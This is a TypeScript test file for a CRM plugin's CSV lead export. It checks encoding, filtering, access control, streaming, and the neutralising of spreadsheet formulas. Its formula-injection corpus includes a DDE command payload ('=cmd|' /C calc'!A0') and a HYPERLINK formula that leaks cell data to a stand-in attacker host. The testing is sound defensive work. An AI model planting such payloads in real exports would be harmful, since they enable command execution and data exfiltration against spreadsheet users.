import type { Payload } from 'payload'

import { sql } from '@payloadcms/db-postgres'
import { parse } from 'csv-parse/sync'

import type { Team } from '../../support/team.js'

import { bootPayload } from '../../support/bootPayload.js'
import { requestRest, rest } from '../../support/rest.js'
import { createTeam } from '../../support/team.js'

type Executor = { execute: (query: unknown) => Promise<unknown> }
type Row = Record<string, string>

let payload: Payload
let stop: () => Promise<void>
let team: Team

beforeAll(async () => {
  ;({ payload, stop } = await bootPayload({
    extend: (config) => ({
      ...config,
      collections: config.collections!.map((collection) =>
        collection.slug === 'users'
          ? {
              ...collection,
              access: {
                ...collection.access,
                // A host whose viewers know nobody but themselves.
                read: ({ req }) =>
                  req.user?.crmRole !== 'viewer' || { id: { equals: req.user.id } },
              },
            }
          : collection,
      ),
    }),
    plugin: {
      collections: {
        leads: ({ defaultCollection }) => ({
          ...defaultCollection,
          access: {
            ...defaultCollection.access,
            // A host that shows viewers less: not all leads, and no notes.
            read: ({ req }) =>
              req.user?.crmRole === 'viewer'
                ? { companyName: { not_equals: 'Secret' } }
                : Boolean(req.user?.crmRole),
          },
          fields: defaultCollection.fields.map((field) =>
            'name' in field && field.name === 'notes'
              ? ({
                  ...field,
                  access: {
                    read: ({ req }: { req: { user?: { crmRole?: string } } }) =>
                      req.user?.crmRole !== 'viewer',
                  },
                } as typeof field)
              : field,
          ),
        }),
      },
    },
  }))
  team = await createTeam(payload)
})

afterAll(() => stop())

const run = (query: ReturnType<typeof sql>) =>
  (payload.db as unknown as { drizzle: Executor }).drizzle.execute(query)

beforeEach(() => run(sql`truncate crm_leads cascade`))

const create = (data: Record<string, unknown>) =>
  payload.create({ collection: 'crm-leads', data, depth: 0 })

const fetchCSV = async (query = '', as = team.rep) => {
  const response = await requestRest({ as, path: `/crm/leads/export${query}`, payload })
  const bytes = new Uint8Array(await response.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  return { headers: response.headers, status: response.status, text }
}

const exportRows = async (query = '', as = team.rep): Promise<Row[]> => {
  const { text } = await fetchCSV(query, as)
  return parse(text, { bom: true, columns: true })
}

describe('an export of leads', () => {
  it('is a file for spreadsheets, with the names people know', async () => {
    await create({
      companyName: 'Ärzte & Söhne',
      contactEmail: 'Jane@Example.com',
      estimatedValue: 1200.5,
      expectedCloseDate: '2026-05-01',
      notes: 'One\nTwo, "three"',
      owner: team.rep.user.id,
      stage: 'qualified',
      tags: ['a', 'b'],
    })
    const { headers, status, text } = await fetchCSV()
    expect(status).toBe(200)
    expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(text.startsWith('\uFEFF')).toBe(true)
    expect(await exportRows()).toEqual([
      expect.objectContaining({
        'Company name': 'Ärzte & Söhne',
        Currency: 'USD',
        'E-mail': 'jane@example.com',
        'Estimated value': '1200.5',
        'Expected close': '2026-05-01',
        Notes: 'One\nTwo, "three"',
        Owner: team.rep.user.name,
        Pipeline: 'New Business',
        'Probability (%)': '25',
        Stage: 'Qualified',
        Status: 'open',
        Tags: 'a, b',
      }),
    ])
  })

  it('holds what the list shows, in its order', async () => {
    await create({ companyName: 'B', estimatedValue: 10, owner: team.rep.user.id })
    await create({ companyName: 'A', estimatedValue: 30, owner: team.rep.user.id })
    await create({ companyName: 'C', estimatedValue: 20, owner: team.colleague.user.id })
    await create({ actualValue: 500, companyName: 'D', estimatedValue: 1, stage: 'closed_won' })
    const names = async (query: string) =>
      (await exportRows(query)).map((row) => row['Company name'])
    expect(await names('?sort=companyName')).toEqual(['A', 'B', 'C', 'D'])
    expect(await names('?sort=-owner.name,companyName&owner=me')).toEqual(['A', 'B'])
    expect(await names('?sort=-estimatedValue&status=open')).toEqual(['A', 'C', 'B'])
    expect(await names('?q=c')).toEqual(['C'])
    expect(await names('?pipeline_type=existing_client')).toEqual([])
    expect(await names('?where[estimatedValue][greater_than]=15&sort=companyName')).toEqual([
      'A',
      'C',
    ])
    expect(await names('?minValue=25&sort=companyName')).toEqual(['A', 'D'])
    expect(await names('?maxValue=15')).toEqual(['B'])
  })

  it('leaves out the trash', async () => {
    const { id } = await create({ companyName: 'Gone' })
    const deletedAt = new Date().toISOString()
    await payload.update({ id, collection: 'crm-leads', data: { deletedAt } })
    expect(await exportRows()).toEqual([])
  })

  it('shows what its reader may see, and no more', async () => {
    await create({ companyName: 'Open', notes: 'Between us' })
    await create({ companyName: 'Secret' })
    expect(await exportRows('', team.rep)).toHaveLength(2)
    expect(await exportRows('', team.viewer)).toEqual([
      expect.objectContaining({ 'Company name': 'Open', Notes: '' }),
    ])
    await create({ companyName: 'Owned', owner: team.rep.user.id })
    const ownersFor = async (as: { token: string }) =>
      (await exportRows('', as as typeof team.rep)).map(({ Owner }) => Owner).filter(Boolean)
    expect(await ownersFor(team.rep)).toHaveLength(1)
    expect(await ownersFor(team.viewer)).toEqual([])
    const probe = await fetchCSV('?where[notes][contains]=Between', team.viewer)
    expect(probe.status).toBe(400)
  })

  it.each(['?sort=nope(', '?limit=5', '?where[nope][equals]=1', '?owner=nobody', '?status=maybe'])(
    'refuses %s as the list does',
    async (query) => {
      const { status } = await rest({ as: team.rep, path: `/crm/leads/export${query}`, payload })
      expect(status).toBe(400)
    },
  )

  it('is written in parts, however many leads there are', async () => {
    const names = Array.from({ length: 1203 }, (_, index) => `Lead ${index}`)
    await create({ companyName: names[0] })
    await run(sql`
      insert into crm_leads (id, company_name, pipeline_id, stage, status, stage_entered_at, board_order, currency)
      select gen_random_uuid(), 'Lead ' || n, l.pipeline_id, l.stage, l.status, l.stage_entered_at, l.board_order, l.currency
      from crm_leads l, generate_series(1, 1202) n`)
    const response = await requestRest({ as: team.rep, path: '/crm/leads/export', payload })
    const parts: Uint8Array[] = []
    for await (const part of response.body as unknown as AsyncIterable<Uint8Array>) {
      parts.push(part)
    }
    expect(parts).toHaveLength(4)
    const rows: Row[] = parse(Buffer.concat(parts).toString(), { bom: true, columns: true })
    expect(new Set(rows.map((row) => row['Company name']))).toEqual(new Set(names))
  })
})

describe('a formula', () => {
  const STARTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
  const BEFORE = ['', ' ', '"', ';', '\u00A0', '\u200B']
  const CORPUS = [
    ...STARTERS.flatMap((starter) => BEFORE.map((before) => `${before}${starter}1+1`)),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    '@SUM(1+1)*cmd',
    '"=1+1"',
    '=1+1";=2+2',
    '-2+3+cmd|x',
    '\u0000=1+1',
    '=',
    '-',
  ]
  const FIELDS = ['companyName', 'contactName', 'lostReason', 'notes', 'source', 'wonReason']

  const startsFormula = (cell: string): boolean =>
    /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell)

  it('starts no cell, in whatever field it stands and whatever stands before it', async () => {
    const { user } = team.colleague
    await payload.update({ id: user.id, collection: 'users', data: { name: '=1+1' } })
    for (const text of CORPUS) {
      const values = Object.fromEntries(FIELDS.map((field) => [field, text]))
      const { body, status } = await rest({
        as: team.colleague,
        body: { ...values, companyName: `${text}x`, source: 'inbound', tags: [text] },
        method: 'POST',
        path: '/crm/leads',
        payload,
      })
      expect({ body, status }).toMatchObject({ status: 201 })
    }
    const rows = await exportRows()
    expect(rows).toHaveLength(CORPUS.length)
    const cells = rows.flatMap((row) => Object.values(row))
    expect(cells.filter((cell) => startsFormula(cell))).toEqual([])
    expect(rows.every((row) => row.Owner === "'=1+1")).toBe(true)
  })
})
